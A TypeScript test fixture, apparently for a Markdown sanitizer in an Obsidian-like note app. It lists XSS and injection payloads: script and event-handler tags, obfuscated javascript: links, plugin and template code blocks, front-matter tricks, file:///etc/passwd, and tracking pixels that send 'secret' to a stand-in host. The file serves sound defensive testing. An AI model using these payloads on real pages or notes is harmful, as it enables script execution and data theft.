/** The script that each attack tries to run. */
const RUN = "alert(1)";
const ELSEWHERE = "https://elsewhere.example";

const html = [
  `<script>${RUN}</script>`,
  `<SCRIPT\n>${RUN}</SCRIPT >`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<scr\0ipt>${RUN}</scr\0ipt>`,
  `<\x01img src=x onerror=${RUN}>`,
  `<img src=x onerror=${RUN}>`,
  `<img\nsrc=x\nonerror=${RUN}//`,
  `<<img src=x onerror=${RUN}>`,
  `<svg/onload=${RUN}>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<video><source onerror=${RUN}></video>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="${ELSEWHERE}/o"></object><embed src="${ELSEWHERE}/e">`,
  `<link rel=stylesheet href=${ELSEWHERE}/c.css>`,
  `<style>@import '${ELSEWHERE}/s.css'; body { background: url(${ELSEWHERE}/b) }</style>`,
  `<meta http-equiv=refresh content="0;url=${ELSEWHERE}">`,
  `<base href="${ELSEWHERE}/">`,
  `<form action="${ELSEWHERE}"><input type=password></form>`,
  `<a href="javascript:${RUN}" style="position:fixed;inset:0">x</a>`,
  `<div onclick=${RUN} contenteditable>x</div>`,
  `<x-y onmouseover=${RUN} tabindex=0 autofocus onfocus=${RUN}>x</x-y>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!-- --!><img src=x onerror=${RUN}>-->`,
  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
  `<?php echo 1 ?><img src=x onerror=${RUN}>`,
  `</textarea></title></style></script><img src=x onerror=${RUN}>`,
  `\\<img src=x onerror=${RUN}>`,
  `\\\\<img src=x onerror=${RUN}>`,
  `\`<img src=x onerror=${RUN}>\``,
  `\`\`\`\n<img src=x onerror=${RUN}>\n\`\`\``,
  `    <img src=x onerror=${RUN}>`,
  `| a |\n| --- |\n| <img src=x onerror=${RUN}> |`,
  `> - <img src=x onerror=${RUN}>`,
  `<div>\n\n<img src=x onerror=${RUN}>\n\n</div>`,
];

const autolinks = [
  `<https://x/onmouseover=${RUN}>`,
  `<https://x/contenteditable/autofocus/onfocus=${RUN}>`,
  `<HTTPS://x/autofocus/tabindex=0/onfocus=${RUN}>`,
  `<http://x/style=animation-name:x/onanimationstart=${RUN}>`,
  `<mailto:a@b.c/onclick=${RUN}>`,
  `<a@onclick=${RUN}>`,
  `<<https://x>img src=x onerror=${RUN}>`,
  `<i<https://x>mg src=x onerror=${RUN}>`,
  `<javascript:${RUN}>`,
  `<obsidian://adv-uri?eval=${RUN}>`,
];

const targets = [
  `javascript:${RUN}`,
  `  JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `<java\tscript:${RUN}>`,
  `<javascript:${RUN}>`,
  `\x01javascript:${RUN}`,
  `java&#115;cript:${RUN}`,
  `java&Tab;script:${RUN}`,
  `javascript&colon;${RUN}`,
  `javascript\\:${RUN}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${RUN}</script>`,
  `file:///etc/passwd`,
  `obsidian://adv-uri?eval=${RUN}`,
];
const links = targets.flatMap((target) => [
  `[x](${target})`,
  `![x](${target})`,
  `[x]: ${target}\n\n[x]`,
  `> [x](\n> ${target})`,
]);

const fetches = [
  `![x](${ELSEWHERE}/pixel?d=secret)`,
  `![x](<${ELSEWHERE}/pixel>)`,
  `![x](//elsewhere.example/pixel)`,
  `!![x](${ELSEWHERE}/pixel)`,
  `![x][y]\n\n[y]: ${ELSEWHERE}/pixel`,
  `![y]\n\n[y]: ${ELSEWHERE}/pixel`,
  `[![x](${ELSEWHERE}/pixel)](${ELSEWHERE})`,
  `<img src=${ELSEWHERE}/pixel>`,
];

const plugins = [
  `\`\`\`dataviewjs\n${RUN}\n\`\`\``,
  `\`\`\`\`  dataviewjs\n${RUN}\n\`\`\`\``,
  `~~~dataviewjs \`x\`\n${RUN}\n~~~`,
  `~~~ DataViewJS\n${RUN}\n~~~`,
  `> \`\`\`dataviewjs\n> ${RUN}\n> \`\`\``,
  `1. \`\`\`js-engine\n   ${RUN}\n   \`\`\``,
  `[^1]: \`\`\`dataviewjs\n    ${RUN}`,
  `\`\`\`mermaid\ngraph TD; A-->B; click A "javascript:${RUN}"\n\`\`\``,
  `\`\`\`{dataviewjs}\n${RUN}\n\`\`\``,
  `\`$= ${RUN}\``,
  `\`\` $= ${RUN} \`\``,
  `a \`\n$= ${RUN}\``,
  `\`$=a\` \`$=b\``,
  `\`= elink("javascript:${RUN}", "x")\``,
  `<%* ${RUN} %>`,
  `<%- ${RUN} %>`,
  `<%_* ${RUN} -%>`,
  `![[secret]]`,
  `![[secret#^block|300]]`,
  `[x](obsidian://open?vault=v)`,
  `obsidian://adv-uri?eval=${RUN}`,
  `$\\href{javascript:${RUN}}{x}$`,
  `$\\\\\\href{javascript:${RUN}}{x}$`,
];

const frontMatter = [
  `---\n<img src=x onerror=${RUN}>`,
  `"\n---\n\n<img src=x onerror=${RUN}>\n`,
  `!!js/function 'function () { ${RUN} }'`,
  `&a [x](javascript:${RUN})`,
  `*a <img src=x onerror=${RUN}>`,
  `| <img src=x onerror=${RUN}>`,
  `x: <img src=x onerror=${RUN}> # y`,
  `{{ constructor.constructor('${RUN}')() }}<b onclick=${RUN}>`,
];

/** Markdown that runs, fetches or hides something in at least one reader. */
export const hostileMarkdown: readonly string[] = [
  ...html,
  ...autolinks,
  ...links,
  ...fetches,
  ...plugins,
  ...frontMatter,
];
